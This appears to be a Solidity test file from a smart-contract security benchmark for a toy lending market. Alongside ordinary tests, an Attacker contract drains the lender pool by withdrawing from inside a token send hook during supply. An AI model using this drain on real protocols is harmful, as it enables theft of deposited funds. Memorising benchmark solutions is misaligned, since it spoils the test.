// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./MoneyMarket.sol";

// assay-canary-b292d20d-7f2c-42f9-951f-bb2496d51f5c

interface Vm {
    function roll(uint256 number) external;
    function startPrank(address sender) external;
    function prank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

/// Calls the market while it pays, and hands on what the market says to that.
contract Nested is ISendHook {
    MoneyMarket internal market;
    bytes internal inner;

    constructor(MoneyMarket market_, HookedToken token) public {
        market = market_;
        token.setSendHook(this);
        token.approve(address(market_), uint256(-1));
    }

    function nest(bytes calldata outer, bytes calldata inner_) external {
        inner = inner_;
        call(outer);
    }

    function tokensToSend(address, address, address, uint256) external override {
        bytes memory next = inner;
        delete inner;
        if (next.length > 0) call(next);
    }

    function call(bytes memory data) private {
        (bool ok, bytes memory answer) = address(market).call(data);
        if (ok) return;
        assembly {
            revert(add(answer, 32), mload(answer))
        }
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address constant LENDER = address(0x1E4D);
    address constant DESK = address(0xDE5C);
    address constant TREASURY = address(0x7EA);
    uint256 constant POOL = 25_000_000e18;
    uint256 constant CAPITAL = 100_000e18;

    HookedToken internal usd;
    RateModel internal model;
    MoneyMarket internal market;
    Attacker internal thief;

    function setUp() public {
        vm.roll(9_890_000);
        usd = new HookedToken("Hooked dollar", "hUSD");
        model = new RateModel(1e10, 0);
        market = new MoneyMarket(TREASURY);
        market.add(usd, model, 10e18, 100_000_000e18);

        usd.issue(LENDER, POOL);
        vm.startPrank(LENDER);
        usd.approve(address(market), POOL);
        market.supply(0, POOL);
        vm.stopPrank();

        thief = new Attacker(market, usd);
        usd.issue(address(thief), CAPITAL);
    }

    /// A desk borrows and repays with interest; the lender, who adds to the position meanwhile, receives it.
    function test_Regular() public {
        market.setCreditLine(0, DESK, 6_000_000e18);
        vm.prank(DESK);
        market.borrow(0, 5_000_000e18);
        (uint256 borrowRate, uint256 supplyRate) = market.ratesOf(0);
        require(borrowRate == 1e10 && supplyRate == 2e9, "rates");

        vm.roll(block.number + 1_000_000);
        usd.issue(LENDER, 1_000e18);
        vm.startPrank(LENDER);
        usd.approve(address(market), 1_000e18);
        market.supply(0, 1_000e18);
        vm.stopPrank();
        // 5,000,000 at 1e-8 a block for 1,000,000 blocks: 50,000
        require(market.supplyOf(0, LENDER) == POOL + 51_000e18, "interest earned");
        require(market.debtOf(0, DESK) == 5_050_000e18, "interest owed");

        usd.issue(DESK, 50_000e18);
        vm.startPrank(DESK);
        usd.approve(address(market), 6_000_000e18);
        market.repay(0, 6_000_000e18);
        vm.stopPrank();
        (, , , , , , , , uint256 totalBorrowed, , ) = market.poolInfo(0);
        require(market.debtOf(0, DESK) == 0 && totalBorrowed == 0, "repaid");

        vm.prank(LENDER);
        market.withdraw(0, POOL + 51_000e18);
        require(usd.balanceOf(LENDER) == POOL + 51_000e18, "paid out");
        require(usd.balanceOf(address(market)) == 0, "nothing left");
        usd.setSendHook(ISendHook(address(0)));
        secondPool();
    }

    /// Another pool, with a slope and a cut.
    function secondPool() internal {
        HookedToken eur = new HookedToken("Hooked euro", "hEUR");
        market.add(eur, new RateModel(0, 2e10), 1e18, 1_000e18);
        require(market.poolLength() == 2, "two pools");
        market.setCut(1000);
        market.setTreasury(address(0x7EB));
        eur.issue(address(this), 1_010e18);
        eur.approve(address(market), uint256(-1));
        market.supply(1, 1_000e18);
        market.setCreditLine(1, address(this), 500e18);
        market.borrow(1, 500e18);
        vm.roll(block.number + 1_000_000);
        // half is lent: 1e-8 a block
        market.accrue(1);
        require(market.debtOf(1, address(this)) == 505e18 && market.supplyOf(1, address(this)) == 1_004.5e18, "interest");
        require(market.cash(1) == 500e18 && market.available(1) == 499.5e18, "cash");
        market.collect(1, 0.3e18);
        require(eur.balanceOf(address(0x7EB)) == 0.3e18, "collected");
        require(market.writeOff(1, address(this), 1e18) == 0.2e18 && market.cash(1) == 499.7e18, "written off");
        market.set(1, new RateModel(0, 0), 2_000e18, true);
        market.repay(1, 505e18);
        market.setGuardian(DESK);
        vm.prank(DESK);
        market.freeze(1);
        market.withdraw(1, 1_004.5e18);
        require(eur.balanceOf(address(this)) == 1_009.7e18 && eur.balanceOf(address(market)) == 0, "books");
        market.transferOwnership(LENDER);
        vm.prank(LENDER);
        market.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangers() public {
        bytes memory owner = "Ownable: caller is not the owner";
        vm.startPrank(DESK);
        vm.expectRevert("issue: issuer only");
        usd.issue(LENDER, 1);
        vm.expectRevert(owner);
        market.add(IERC20(DESK), model, 0, 0);
        vm.expectRevert(owner);
        market.set(0, model, 0, true);
        vm.expectRevert(owner);
        market.setCreditLine(0, DESK, 1);
        vm.expectRevert(owner);
        market.setCut(0);
        vm.expectRevert(owner);
        market.setTreasury(DESK);
        vm.expectRevert(owner);
        market.setGuardian(DESK);
        vm.expectRevert(owner);
        market.writeOff(0, DESK, 0);
        vm.expectRevert("freeze: guardian only");
        market.freeze(0);
        vm.expectRevert(owner);
        market.collect(0, 0);
        vm.expectRevert(owner);
        market.transferOwnership(DESK);
        vm.stopPrank();
    }

    function test_RefusesPools() public {
        vm.expectRevert("setTreasury: zero");
        new MoneyMarket(address(0));
        vm.expectRevert("add: already there");
        market.add(usd, model, 0, 0);
        vm.expectRevert("add: no model");
        market.add(IERC20(DESK), RateModel(0), 0, 0);
        vm.expectRevert("set: no model");
        market.set(0, RateModel(0), 0, false);
        vm.expectRevert("setCreditLine: no pool");
        market.setCreditLine(1, DESK, 1);
        vm.expectRevert("setCut: too much");
        market.setCut(3001);
        vm.expectRevert("RateModel: too steep");
        new RateModel(1e12 + 1, 0);
        vm.expectRevert("RateModel: too steep");
        new RateModel(0, 1e12 + 1);
    }

    function test_RefusesSupplies() public {
        usd.issue(address(this), 100_000_000e18);
        usd.approve(address(market), uint256(-1));
        vm.expectRevert("supply: too small");
        market.supply(0, 10e18 - 1);
        market.supply(0, 10e18);
        vm.expectRevert("supply: pool is full");
        market.supply(0, 75_000_000e18 - 10e18 + 1);
        market.setCreditLine(0, DESK, 1);
        market.set(0, model, 100_000_000e18, true);
        vm.expectRevert("supply: frozen");
        market.supply(0, 1e18);
        vm.prank(DESK);
        vm.expectRevert("borrow: frozen");
        market.borrow(0, 1);
    }

    function test_RefusesToPayMoreThanIsThere() public {
        usd.issue(address(this), 20e18);
        usd.approve(address(market), 20e18);
        market.supply(0, 20e18);
        vm.expectRevert("withdraw: too much");
        market.withdraw(0, 20e18 + 1);

        market.setCreditLine(0, DESK, POOL + 30e18);
        vm.prank(DESK);
        vm.expectRevert("borrow: over the line");
        market.borrow(0, POOL + 30e18 + 1);
        vm.prank(DESK);
        vm.expectRevert("borrow: too much");
        market.borrow(0, POOL + 20e18 + 1);
        vm.prank(DESK);
        market.borrow(0, POOL + 10e18);
        vm.expectRevert("withdraw: too much");
        market.withdraw(0, 20e18);
        market.withdraw(0, 10e18);
        vm.expectRevert("collect: too much");
        market.collect(0, 1);
    }

    /// The cut of interest that has not been paid stays where it is.
    function test_RefusesToCollectWhatIsLent() public {
        market.setCut(3000);
        market.setCreditLine(0, DESK, POOL);
        vm.prank(DESK);
        market.borrow(0, POOL);
        vm.roll(block.number + 1_000);
        vm.expectRevert("collect: too much");
        market.collect(0, 1e18);
    }

    function test_RefusesPaymentsWithinPayments() public {
        Nested nested = new Nested(market, usd);
        usd.issue(address(nested), 100e18);
        bytes memory supply = abi.encodeWithSelector(market.supply.selector, 0, 20e18);
        bytes memory repay = abi.encodeWithSelector(market.repay.selector, 0, 0);
        vm.expectRevert("ReentrancyGuard: reentrant call");
        nested.nest(supply, supply);
        vm.expectRevert("ReentrancyGuard: reentrant call");
        nested.nest(supply, repay);
        nested.nest(supply, "");
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + POOL, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Withdraws its position from inside the pull of a one-unit supply, and keeps the credit.
contract Attacker is ISendHook {
    MoneyMarket internal market;
    HookedToken internal usd;
    bool internal armed;

    constructor(MoneyMarket market_, HookedToken usd_) public {
        market = market_;
        usd = usd_;
    }

    function run() external {
        usd.setSendHook(this);
        usd.approve(address(market), uint256(-1));
        for (uint256 i = 0; i < 20 && market.available(0) > 0; i++) {
            market.supply(0, usd.balanceOf(address(this)) - 1);
            armed = true;
            market.supply(0, 1);
            uint256 credit = market.supplyOf(0, address(this));
            uint256 cash = market.available(0);
            market.withdraw(0, credit < cash ? credit : cash);
        }
    }

    function tokensToSend(address, address, address, uint256) external override {
        if (!armed) return;
        armed = false;
        market.withdraw(0, market.supplyOf(0, address(this)));
    }
}
